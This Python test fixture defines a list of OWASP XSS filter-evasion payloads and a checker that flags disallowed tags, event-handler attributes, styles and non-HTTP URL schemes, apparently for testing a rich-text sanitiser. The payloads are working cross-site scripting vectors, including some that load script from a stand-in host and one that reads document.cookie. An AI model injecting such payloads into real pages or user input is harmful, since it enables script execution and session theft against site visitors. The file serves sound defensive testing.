"""Hostile rich text: OWASP XSS filter-evasion classes, for the story so far and charts."""

PAYLOADS = [
    # <script> in its many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=https://xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    '<script type="module">import("https://xss.example/x.js")</script>',
    "</p><script>alert(document.cookie)</script><p>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<strong/onmouseover=alert(1)>x</strong>",
    # dangerous URL schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//xss.example/">protocol-relative</a>',
    '<img src="javascript:alert(1)">',
    # embedding and active elements
    '<iframe src="https://xss.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://xss.example/x.swf"></object>',
    '<embed src="https://xss.example/x.swf">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://xss.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://xss.example/">',
    '<form action="https://xss.example/"><button>Sign in</button></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%">overlay</div>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # entity and parser tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img """><script>alert(1)</script>">',
    "<a href='https://ok.example' title='x' style='color:red' target=_blank>link</a>",
    "<p>ok</p><plaintext><script>alert(1)</script>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<a href="https://ok.example/?q=<script>">fine link</a>',
    "<b>bold <i>italic <u>underline</u></i></b> <em>kept</em>",
    "<ul><li>one<li>two</ul><ol><li>three</ol>",
    '<a href="mailto:send@example.org">write</a>',
]

ALLOWED_TAGS = {"p", "br", "strong", "b", "em", "i", "ul", "ol", "li", "a", "blockquote"}
ALLOWED_SCHEMES = ("http://", "https://", "mailto:")
# nh3 keeps title and lang on any tag: text only, they cannot run or load anything.


def banned_markup(html: str) -> list[str]:
    """What in ``html`` could run script, load anything, or restyle the page."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Checker(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag not in ALLOWED_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on"):
                    found.append(f"{tag} {name}=")
                elif name == "style":
                    found.append(f"{tag} style=")
                elif name not in ({"href", "rel"} if tag == "a" else set()) | {"title", "lang"}:
                    found.append(f"{tag} {name}=")
                if name == "href":
                    cleaned = "".join(ch for ch in (value or "") if ch > " ").lower()
                    if not cleaned.startswith(ALLOWED_SCHEMES):
                        found.append(f"href={value!r}")

        handle_startendtag = handle_starttag

    Checker(convert_charrefs=True).feed(html)
    return found
